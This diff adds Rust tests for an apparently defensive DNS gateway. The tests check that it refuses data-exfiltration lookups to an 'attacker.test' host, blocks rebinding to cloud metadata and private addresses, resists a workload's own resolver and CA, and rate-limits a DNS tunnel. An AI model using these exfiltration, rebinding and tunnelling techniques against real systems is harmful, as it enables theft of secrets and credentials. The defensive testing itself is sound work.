@@ -1,0 +1,194 @@
+//! Names: who is asked for them, what may be told, and what an answer is worth.
+
+use std::net::IpAddr;
+
+use anyhow::{Context, ensure};
+use tests::{
+    harness::{
+        Resolver, WAIT, finish, free_address,
+        resolver::{AAAA, address, text},
+    },
+    upstream::{Options, Upstream},
+};
+
+use crate::world::{Cgroup, IDENTITY, World, held};
+
+const READ_ALL: &str = "@id(\"read\") permit (principal, action in Action::\"http\", resource in ServiceGroup::\"unlisted\");";
+
+/// What libc finds for a name; nothing where it does not exist.
+fn found(cgroup: &Cgroup, name: &str) -> anyhow::Result<Vec<String>> {
+    let mut command = cgroup.command("getent");
+    command.args(["ahosts", name]);
+    let finished = finish(&command, "", WAIT)?;
+    ensure!(
+        matches!(finished.status.code(), Some(0 | 2)),
+        "{finished:?}"
+    );
+    let first = |line: &str| line.split_whitespace().next().map(str::to_owned);
+    let mut addresses: Vec<String> = finished.stdout.lines().filter_map(first).collect();
+    addresses.dedup();
+    Ok(addresses)
+}
+
+#[test]
+fn a_name_that_no_permit_could_be_for_is_asked_of_nobody() -> anyhow::Result<()> {
+    let loopback = IpAddr::from([127, 0, 0, 9]);
+    let data = "6b65792d6d6174657269616c.attacker.test";
+    let listed = "listed.example.test";
+    let resolver = Resolver::start(vec![address(data, loopback), address(listed, loopback)])?;
+    let policy = "@id(\"own\") permit (principal, action in Action::\"http\", resource == Service::\"own\");";
+    let world = World::begin(&[], policy, |lab| {
+        lab.resolve_by(resolver.addr.ip())?;
+        Ok(format!(
+            "[[service]]\nname = \"own\"\nhosts = [\"http://{listed}\"]\n"
+        ))
+    })?;
+    for name in [data, listed] {
+        ensure!(
+            found(&world.free, name)? == ["127.0.0.9"],
+            "the control run"
+        );
+    }
+    ensure!(resolver.take().iter().any(|(name, _)| name == data));
+
+    ensure!(found(&world.governed, data)?.is_empty());
+    ensure!(resolver.take().is_empty(), "the name has left");
+    ensure!(found(&world.governed, listed)? == ["127.0.0.9"]);
+    ensure!(resolver.take().iter().all(|(name, _)| name == listed));
+    let lookups = world.daemon.lookups()?;
+    for (name, outcome) in [(data, "refused"), (listed, "completed")] {
+        let mut of = lookups.iter().filter(|lookup| lookup["path"] == name);
+        ensure!(
+            of.clone().count() > 0
+                && of.all(|lookup| lookup["outcome"] == outcome
+                    && lookup["identity"] == IDENTITY
+                    && lookup["action"] == "dns.resolve"),
+            "{lookups:#?}"
+        );
+    }
+    Ok(())
+}
+
+#[test]
+fn a_public_name_is_told_nothing_inside() -> anyhow::Result<()> {
+    let addresses: [(&str, &str); 5] = [
+        ("loopback.example.test", "127.0.0.9"),
+        ("private.example.test", "10.1.2.3"),
+        ("metadata.example.test", "169.254.169.254"),
+        ("mapped.example.test", "::ffff:169.254.169.254"),
+        ("unique-local.example.test", "fd00:ec2::254"),
+    ];
+    let mut records = Vec::new();
+    for (name, of) in addresses {
+        records.push(address(name, of.parse()?));
+    }
+    let resolver = Resolver::start(records)?;
+    let world = World::begin(&[], READ_ALL, |lab| {
+        lab.resolve_by(resolver.addr.ip())?;
+        Ok(String::new())
+    })?;
+    for (name, _) in addresses {
+        ensure!(found(&world.free, name)?.len() == 1, "control: {name}");
+        ensure!(found(&world.governed, name)?.is_empty(), "{name}");
+        let lookups = world.daemon.lookups()?;
+        let told = |lookup: &&serde_json::Value| {
+            let reason = lookup["reason"].as_str().unwrap_or_default();
+            lookup["path"] == name && reason.contains("rebinding") && lookup["outcome"] == "refused"
+        };
+        ensure!(lookups.iter().any(|lookup| told(&lookup)), "{lookups:#?}");
+    }
+    Ok(())
+}
+
+#[test]
+fn a_resolver_of_its_own_gets_neither_the_question_nor_the_credential() -> anyhow::Result<()> {
+    const SERVICE: &str = "asked.example.test";
+    const SECRET: &str = "sk-asked-0123456789abcdef";
+    let start = || {
+        Upstream::start(&Options {
+            tls: vec![free_address(443)?],
+            names: vec![SERVICE.to_owned()],
+            ..Options::default()
+        })
+    };
+    let (true_one, attacker) = (start()?, start()?);
+    let resolver = Resolver::start(vec![address(SERVICE, true_one.tls[0].ip())])?;
+    let own = Resolver::start(vec![address(SERVICE, attacker.tls[0].ip())])?;
+    let policy = "@id(\"all\") permit (principal, action, resource == Service::\"held\");";
+    let world = World::begin(&[], policy, |lab| {
+        lab.resolve_by(resolver.addr.ip())?;
+        lab.write("own.conf", &format!("nameserver {}\n", own.addr.ip()))?;
+        held(lab, SERVICE, true_one.authority.pem(), SECRET)
+    })?;
+    let both = world.ca()? + attacker.authority.pem();
+    let ca = world.lab.write("trusted.pem", &both)?;
+    // The agent has a resolver of its own, and trusts a CA of its own beside the gateway's.
+    let script = format!(
+        "mount --bind {} /etc/resolv.conf && exec curl --silent --max-time 5 --noproxy '*' --cacert {} https://{SERVICE}/v1/models",
+        world.lab.path("own.conf").display(),
+        ca.display()
+    );
+    let get = |cgroup: &Cgroup| {
+        let mut command = cgroup.command("unshare");
+        command.args(["--mount", "sh", "-c", &script]);
+        finish(&command, "", WAIT)
+    };
+    get(&world.free)?.success()?;
+    ensure!(attacker.take().len() == 1, "the control run");
+    ensure!(!own.take().is_empty() && resolver.take().is_empty());
+
+    get(&world.governed)?.success()?;
+    ensure!(own.take().is_empty(), "its resolver was asked");
+    ensure!(attacker.received().is_empty(), "{:#?}", attacker.received());
+    ensure!(resolver.take().iter().any(|(name, _)| name == SERVICE));
+    let received = true_one.take().pop().context("nothing arrived")?;
+    ensure!(received.header("authorization") == Some(format!("Bearer {SECRET}").as_str()));
+    Ok(())
+}
+
+#[test]
+fn a_tunnel_through_permitted_names_is_limited_and_on_record() -> anyhow::Result<()> {
+    let zone = "tunnel.example.test";
+    let resolver = Resolver::start(vec![text(zone, "x")])?;
+    let world = World::begin(&[], READ_ALL, |lab| {
+        lab.resolve_by(resolver.addr.ip())?;
+        Ok(String::new())
+    })?;
+    // Each name carries 24 bytes; getent asks for two families, one after the other where the first says "no such name".
+    let script = format!(
+        "i=0; while [ $i -lt {TRIES} ]; do getent ahostsv4 $(printf '%024x' $i).{zone}; i=$((i+1)); done; true"
+    );
+    let flood = |cgroup: &Cgroup| {
+        let mut command = cgroup.command("sh");
+        command.args(["-c", &script]);
+        finish(&command, "", WAIT)
+    };
+    let names = || {
+        let asked = resolver.take().into_iter();
+        let mut names: Vec<String> = asked
+            .filter(|(_, kind)| *kind != AAAA)
+            .map(|(name, _)| name)
+            .collect();
+        names.sort_unstable();
+        names.dedup();
+        names.len()
+    };
+    flood(&world.free)?.success()?;
+    ensure!(names() == TRIES, "the control run");
+    flood(&world.governed)?.success()?;
+    let passed = names();
+    ensure!(
+        passed > 0 && passed < TRIES / 2,
+        "{passed} of {TRIES} names passed"
+    );
+    let lookups = world.daemon.lookups()?;
+    let excess = |lookup: &&serde_json::Value| {
+        let reason = lookup["reason"].as_str().unwrap_or_default();
+        lookup["outcome"] == "refused" && reason.starts_with("tunnel: ")
+    };
+    ensure!(lookups.iter().filter(excess).count() == 1, "{lookups:#?}");
+    Ok(())
+}
+
+/// More than a workload may ask below one domain, all in labels that look encoded.
+const TRIES: usize = 120;
